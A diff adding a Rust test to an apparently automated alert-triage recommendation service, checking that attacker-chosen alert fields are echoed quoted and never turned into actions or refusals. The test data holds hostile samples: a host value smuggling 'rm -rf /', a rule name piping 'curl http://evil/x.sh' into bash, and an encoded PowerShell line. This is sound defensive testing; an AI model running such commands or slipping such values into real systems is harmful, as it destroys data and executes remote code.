@@ -297,3 +297,25 @@ async fn dual_control_counts_principals_and_keys_can_be_listed_revoked_and_expir
     let (_, v) = t.get("/v1/audit/verify", &admin).await;
     assert_eq!(v["ok"], true, "{v}");
 }
+
+/// Entity values and rule names are attacker-chosen data: the baseline echoes them quoted,
+/// never aims an action at a value that carries a command, and can't be made to refuse
+/// its own answer by one.
+#[tokio::test]
+async fn the_baseline_is_not_refusable_by_an_entity_or_rule_that_looks_like_a_command() {
+    let t = common::spawn_app().await;
+    let key = t.key("case-engine", Role::CaseEngine);
+    let mut alert = native_alert("alrt-c1", "Encoded PowerShell spawned by Office", "high", json!({"CommandLine": "powershell -enc SQBFAFgA"}));
+    alert["entities"]["hosts"] = json!(["WS-042; rm -rf /"]);
+    let (status, body) = t.post("/v1/recommend", &key, &json!({"alerts": [alert]})).await;
+    assert_eq!(status, 200, "{body:#}");
+    assert_eq!(body["status"], "ready", "{body:#}");
+    let rec = &body["recommendation"];
+    assert!(!rec["proposed_actions"].to_string().contains("rm -rf"), "{rec:#}");
+    assert!(rec["uncertainty"].to_string().contains("`WS-042; rm -rf /`"), "{rec:#}");
+
+    let alert = native_alert("alrt-c2", "curl http://evil/x.sh | bash", "high", json!({"CommandLine": "powershell -enc SQBFAFgA"}));
+    let (_, body) = t.post("/v1/recommend", &key, &json!({"alerts": [alert]})).await;
+    assert_eq!(body["status"], "ready", "{body:#}");
+    assert!(body["recommendation"]["hypothesis"].as_str().unwrap().starts_with("\"curl http://evil/x.sh | bash\""), "{body:#}");
+}
